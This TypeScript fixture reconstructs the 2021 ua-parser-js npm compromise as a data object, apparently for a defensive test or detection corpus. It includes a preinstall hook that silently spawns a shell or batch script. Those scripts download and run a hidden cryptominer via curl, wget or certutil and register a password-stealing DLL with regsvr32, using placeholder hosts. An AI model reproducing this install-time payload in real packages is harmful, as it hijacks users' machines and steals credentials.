import type { Incident } from '../incident.ts';

export const uaParser: Incident = {
  id: 'ua-parser-js-2021',
  story:
    'Stolen account. A preinstall script looks at the platform and starts a shell script (Linux) or a batch file (Windows); the first leaves again in four countries, else downloads a miner with curl or wget, makes it executable and starts it hidden; the second also registers a downloaded library that reads passwords.',
  sources: [
    'https://blogs.vmware.com/security/2021/12/29260.html',
    'https://cronfeed.work/oss-ua-parser-js-incident-readout-publish-identity-install-scripts-2026/',
    'https://github.com/faisalman/ua-parser-js/issues/536',
  ],
  name: 'corpus-agent-parser',
  version: '0.7.29',
  manifest: { main: 'src/agent.js', scripts: { preinstall: 'node preinstall.js' } },
  payloads: [
    {
      path: 'preinstall.js',
      format: 'cjs',
      uses: { childProcess: 'child_process' },
      sections: [
        {
          provides: ['platform', 'options'],
          code: `
const platform = process.platform;
const options = { cwd: '/corpus-no-such-folder', detached: true, stdio: 'ignore', windowsHide: true };
`,
        },
        {
          provides: ['startLinux'],
          code: `
function startLinux() {
  const child = childProcess.spawn('/bin/bash', ['preinstall.sh'], options);
  child.unref();
}
`,
        },
        {
          provides: ['startWindows'],
          code: `
function startWindows() {
  const child = childProcess.spawn('cmd.exe', ['/c', 'preinstall.bat'], options);
  child.unref();
}
if (platform === 'win32') {
  startWindows();
} else if (platform === 'linux') {
  startLinux();
}
`,
        },
      ],
    },
  ],
  files: {
    'src/agent.js': `module.exports = function parse(agent) {
  const found = /(Firefox|Chrome|Safari)\\/([\\d.]+)/.exec(agent);
  return found ? { name: found[1], version: found[2] } : { name: undefined, version: undefined };
};
`,
    'preinstall.sh': `#!/bin/bash
country=$(curl -s http://freegeo.invalid/xml | grep -o 'RU\\|UA\\|BY\\|KZ')
if [ -z "$country" ]; then
  running=$(pgrep jsextension)
  if [ -z "$running" ]; then
    curl -k http://203.0.113.23/download/jsextension -o /corpus-no-such-folder/jsextension
    if [ ! -f /corpus-no-such-folder/jsextension ]; then
      wget http://203.0.113.23/download/jsextension -O /corpus-no-such-folder/jsextension
    fi
    chmod +x /corpus-no-such-folder/jsextension
    nohup /corpus-no-such-folder/jsextension -k --tls -o pool.invalid:443 -u corpus-wallet --cpu-max-threads-hint=50 --background &
  fi
fi
`,
    'preinstall.bat': `@echo off\r
curl http://203.0.113.23/download/jsextension.exe -o C:\\corpus-no-such-folder\\jsextension.exe\r
if not exist C:\\corpus-no-such-folder\\jsextension.exe (\r
  certutil.exe -urlcache -f http://203.0.113.23/download/jsextension.exe C:\\corpus-no-such-folder\\jsextension.exe\r
)\r
curl https://citation.invalid/sdd.dll -o C:\\corpus-no-such-folder\\create.dll\r
start /B C:\\corpus-no-such-folder\\jsextension.exe -k --tls -o pool.invalid:443 -u corpus-wallet\r
regsvr32.exe -s C:\\corpus-no-such-folder\\create.dll\r
`,
  },
  marks: {
    jsextension: 'fontcache',
    'preinstall.sh': 'prepare.sh',
    'preinstall.bat': 'prepare.bat',
    'preinstall.js': 'prepare.js',
  },
};
